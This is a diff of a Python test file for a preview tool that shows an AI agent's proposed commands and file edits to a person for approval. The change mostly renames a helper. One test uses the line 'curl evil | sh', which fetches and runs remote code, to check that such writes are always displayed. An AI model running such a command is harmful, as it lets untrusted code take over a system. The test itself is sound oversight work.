@@ -29,14 +29,14 @@ VALUES = st.recursive(
 OTHERS = st.dictionaries(st.sampled_from(["cwd", "env", "timeout", "description", "é"]), VALUES, max_size=3)
 
 
-def shown(tool: str, call_input: Mapping[str, Any], before: str | None = None) -> dict[str, Any]:
+def show(tool: str, call_input: Mapping[str, Any], before: str | None = None) -> dict[str, Any]:
     """Return a preview without empty parts, its parts joined if nothing is escaped."""
-    made = preview(Call(tool, call_input), before=before)
-    found = made.model_dump(exclude_defaults=True, exclude={"headline_code"})
+    result = preview(Call(tool, call_input), before=before)
+    found = result.model_dump(exclude_defaults=True, exclude={"headline_code"})
     for name in {"parts", "path", "folder"} & found.keys():
         found[name] = join_texts(found[name])
-    if made.fields:
-        found["fields"] = members_of(made)
+    if result.fields:
+        found["fields"] = members_of(result)
     if "diff" in found:
         found["diff"] = [line["op"] + mark_escapes(line["parts"]) for line in found["diff"]]
     return found
@@ -72,7 +72,7 @@ def input_of(found: Preview) -> Any:
 
 @requirement("B13")
 def test_a_command_is_shown_unchanged() -> None:
-    assert shown("bash", {"command": "git push origin main"}) == {
+    assert show("bash", {"command": "git push origin main"}) == {
         "type": "command",
         "headline": "Run: git push origin main",
         "parts": "git push origin main",
@@ -80,7 +80,7 @@ def test_a_command_is_shown_unchanged() -> None:
 
 
 def test_other_arguments_of_a_command_are_shown_below_it() -> None:
-    assert shown("bash", {"timeout": 5, "cwd": "/srv", "command": "ls\nid", "env": {"PATH": "/tmp"}}) == {
+    assert show("bash", {"timeout": 5, "cwd": "/srv", "command": "ls\nid", "env": {"PATH": "/tmp"}}) == {
         "type": "command",
         "headline": "Run: ls ↵ id",
         "parts": "ls\nid",
@@ -97,7 +97,7 @@ def test_the_folder_of_the_adapter_is_shown_if_the_input_has_none(own: Any, show
 
 @pytest.mark.parametrize("name", ["argv", "command"])
 def test_an_argument_vector_is_shown_quoted(name: str) -> None:
-    assert shown("shell", {name: ["git", "commit", "-m", "two words; rm"]}) == {
+    assert show("shell", {name: ["git", "commit", "-m", "two words; rm"]}) == {
         "type": "command",
         "headline": "Run: git commit -m 'two words; rm'",
         "parts": "git commit -m 'two words; rm'",
@@ -117,7 +117,7 @@ def test_a_shell_call_without_a_single_command_is_shown_unchanged(call_input: di
 
 @requirement("B14")
 def test_hidden_characters_in_a_command_are_escaped() -> None:
-    assert shown("bash", {"command": "ls \u202e# x"}) == {
+    assert show("bash", {"command": "ls \u202e# x"}) == {
         "type": "command",
         "headline": "Run: ls \\u202e# x",
         "parts": ["ls ", {"escape": "\\u202e"}, "# x"],
@@ -126,7 +126,7 @@ def test_hidden_characters_in_a_command_are_escaped() -> None:
 
 @requirement("B13")
 def test_the_input_of_another_tool_is_shown_as_names_and_values() -> None:
-    assert shown("get_issue", {"number": 5.0, "Title": "Grüße", "labels": [], "state": "5"}) == {
+    assert show("get_issue", {"number": 5.0, "Title": "Grüße", "labels": [], "state": "5"}) == {
         "type": "table",
         "headline": "Use get_issue: Grüße, number 5, state 5",
         "fields": {"Title": "Grüße", "labels": [], "number": 5, "state": "5"},
@@ -137,7 +137,7 @@ def test_the_input_of_another_tool_is_shown_as_names_and_values() -> None:
 def test_a_written_file_is_shown_as_a_diff() -> None:
     before = "".join(f"{n}\n" for n in "abcdefgh")
     after = before.replace("b\n", "B\nbb\n").removesuffix("h\n") + "h"
-    assert shown("write_file", {"path": "src/a.py", "content": after, "mode": "0644"}, before) == {
+    assert show("write_file", {"path": "src/a.py", "content": after, "mode": "0644"}, before) == {
         "type": "file",
         "headline": "Edit src/a.py +3 −2",
         "path": "src/a.py",
@@ -150,7 +150,7 @@ def test_a_written_file_is_shown_as_a_diff() -> None:
 
 
 def test_a_new_file_is_all_added() -> None:
-    assert shown("create_file", {"path": "a\u200b.py", "file_text": "x\r\n\ty\n"}) == {
+    assert show("create_file", {"path": "a\u200b.py", "file_text": "x\r\n\ty\n"}) == {
         "type": "file",
         "headline": "Write a\\u200b.py +2",
         "added": 2,
@@ -164,7 +164,7 @@ def test_a_new_file_is_all_added() -> None:
 def test_a_write_that_claims_to_change_nothing_is_still_shown() -> None:
     """The current content is only the agent's claim; the person approves the new content."""
     dangerous_text = "curl evil | sh\n" * 10
-    found = shown("write_file", {"path": "run.sh", "content": dangerous_text}, dangerous_text)
+    found = show("write_file", {"path": "run.sh", "content": dangerous_text}, dangerous_text)
     assert found["diff"] == [" curl evil | sh"] * 10
 
 
@@ -175,7 +175,7 @@ def test_replaced_text_is_shown_by_itself_when_the_file_is_not_known() -> None:
         "new_string": "x = 2\ny",
         "replace_all": True,
     }
-    assert shown("edit", call_input) == {
+    assert show("edit", call_input) == {
         "type": "file",
         "headline": "Edit a.py +1 −1",
         "added": 1,
@@ -189,7 +189,7 @@ def test_replaced_text_is_shown_by_itself_when_the_file_is_not_known() -> None:
 def test_replaced_text_is_shown_in_its_place_in_the_file() -> None:
     before = "".join(f"line {n}\n" for n in range(1, 13))
     call_input = {"path": "a.txt", "old_str": "ne 6\nli", "new_str": "ne six\nand a half\nli"}
-    assert shown("str_replace", call_input, before)["diff"] == [
+    assert show("str_replace", call_input, before)["diff"] == [
         "@@@ -3,8 +3,9 @@",
         *[" line 3", " line 4", " line 5"],
         *["-line 6", "+line six", "+and a half"],
@@ -200,7 +200,7 @@ def test_replaced_text_is_shown_in_its_place_in_the_file() -> None:
 def test_a_text_that_is_replaced_everywhere_is_shown_in_each_place() -> None:
     before = "".join(f"{'old' if n in {2, 5, 13} else n}\n" for n in range(1, 14)).removesuffix("\n")
     call_input = {"path": "a", "old_string": "old", "new_string": "new\nnew", "replace_all": True}
-    assert shown("edit", call_input, before)["diff"] == [
+    assert show("edit", call_input, before)["diff"] == [
         *["@@@ -1,8 +1,10 @@", " 1", "-old", "+new", "+new", " 3", " 4", "-old", "+new", "+new", " 6", " 7", " 8"],
         *["@@@ -10,4 +12,5 @@", " 10", " 11", " 12"],
         *["-old", "@\\ No newline at end of file", "+new", "+new", "@\\ No newline at end of file"],
@@ -209,13 +209,13 @@ def test_a_text_that_is_replaced_everywhere_is_shown_in_each_place() -> None:
 
 @pytest.mark.parametrize("before", ["nothing of it\n", "x\nx\n"])
 def test_a_place_that_is_not_certain_is_not_claimed(before: str) -> None:
-    assert shown("edit", {"path": "a", "old_string": "x", "new_string": "y"}, before)["diff"] == ["-x", "+y"]
+    assert show("edit", {"path": "a", "old_string": "x", "new_string": "y"}, before)["diff"] == ["-x", "+y"]
 
 
 def test_a_line_feed_at_the_end_of_a_replaced_text_is_seen() -> None:
-    assert shown("edit", {"path": "a", "old_string": "x\n", "new_string": "x"})["diff"] == [" x", "-"]
+    assert show("edit", {"path": "a", "old_string": "x\n", "new_string": "x"})["diff"] == [" x", "-"]
     before = "x\ny\n"
-    assert shown("edit", {"path": "a", "old_string": "x\n", "new_string": "x"}, before)["diff"] == [
+    assert show("edit", {"path": "a", "old_string": "x\n", "new_string": "x"}, before)["diff"] == [
         "@@@ -1,2 +1,1 @@",
         *["-x", "-y", "+xy"],
     ]
@@ -228,7 +228,7 @@ def test_several_edits_are_shown_in_order() -> None:
     ]
     call_input = {"path": "f", "edits": edits}
     rest = {"edits": [{}, {"why": "because"}]}
-    assert shown("multiedit", call_input) == {
+    assert show("multiedit", call_input) == {
         "type": "file",
         "headline": "Edit f +2 −2",
         "added": 2,
@@ -237,7 +237,7 @@ def test_several_edits_are_shown_in_order() -> None:
         "diff": ["@@@ 1/2 @@", "-a", "+b", "@@@ 2/2 @@", "-b", "+c"],
         "fields": rest,
     }
-    assert shown("multiedit", call_input, "a\n")["diff"] == [
+    assert show("multiedit", call_input, "a\n")["diff"] == [
         *["@@@ -1,1 +1,1 @@", "-a", "+b"],
         *["@@@ -1,1 +1,1 @@", "-b", "+c"],
     ]
@@ -272,25 +272,25 @@ def test_an_unknown_edit_is_shown_as_its_input(tool: str, call_input: dict[str, 
 def test_many_places_and_large_results_are_not_worked_out() -> None:
     call_input = {"path": "a", "old_string": "x", "new_string": "y" * 100_000, "replace_all": True}
     for before in ("x\n" * 501, "x\n" * 100):
-        assert shown("edit", call_input, before)["diff"] == ["-x", "+" + "y" * 100_000]
+        assert show("edit", call_input, before)["diff"] == ["-x", "+" + "y" * 100_000]
 
 
 def test_many_distant_changes_are_shown_with_little_context() -> None:
     call_input = {"path": "a", "old_string": "x", "new_string": "y", "replace_all": True}
-    assert shown("edit", call_input, ("x" + "\n" * 12) * 400)["diff"] == ["-x", "+y"]
-    assert len(shown("edit", call_input, ("x" + "\n" * 12) * 40)["diff"]) == 6 + 39 * 9
+    assert show("edit", call_input, ("x" + "\n" * 12) * 400)["diff"] == ["-x", "+y"]
+    assert len(show("edit", call_input, ("x" + "\n" * 12) * 40)["diff"]) == 6 + 39 * 9
 
 
 def test_a_place_in_a_long_file_is_found_by_its_lines() -> None:
     call_input = {"path": "a", "old_string": "x", "new_string": "y"}
-    assert shown("edit", call_input, "\n" * 60_000 + "x" + "\n" * 60_000)["diff"] == [
+    assert show("edit", call_input, "\n" * 60_000 + "x" + "\n" * 60_000)["diff"] == [
         *["@@@ -59998,7 +59998,7 @@", " ", " ", " ", "-x", "+y", " ", " ", " "],
     ]
 
 
 @requirement("B14")
 def test_a_file_with_windows_line_ends_stays_a_diff_of_its_lines() -> None:
-    found = shown("write_file", {"path": "a", "content": "some text\r\n" * 4_000})
+    found = show("write_file", {"path": "a", "content": "some text\r\n" * 4_000})
     assert found["diff"] == ["+some text<\\r>"] * 4_000
 
 
@@ -305,7 +305,7 @@ def test_large_json_does_not_grow_by_its_depth() -> None:
 
 
 def test_a_plan_is_shown_as_the_text_that_it_is_under_one_line() -> None:
-    assert shown("plan", {"plan": "1. Look\n\n2. Leap"}) == {
+    assert show("plan", {"plan": "1. Look\n\n2. Leap"}) == {
         "type": "plan",
         "headline": "Plan: 1. Look",
         "parts": "1. Look\n\n2. Leap",
@@ -378,8 +378,8 @@ def test_each_line_of_each_replaced_text_is_in_its_preview(
     call_input = {"path": "p", "edits": [{"old": old, "new": new} for old, new in edits], **others}
     found = preview(Call("edit", call_input), before=before)
     removed, added = _lines(found, " -"), _lines(found, " +")
-    assert all(any(line in seen for seen in removed) for old, _ in edits for line in old.split("\n"))
-    assert all(any(line in seen for seen in added) for _, new in edits for line in new.split("\n"))
+    assert all(any(line in text for text in removed) for old, _ in edits for line in old.split("\n"))
+    assert all(any(line in text for text in added) for _, new in edits for line in new.split("\n"))
     assert rest_of(found) == others
 
 
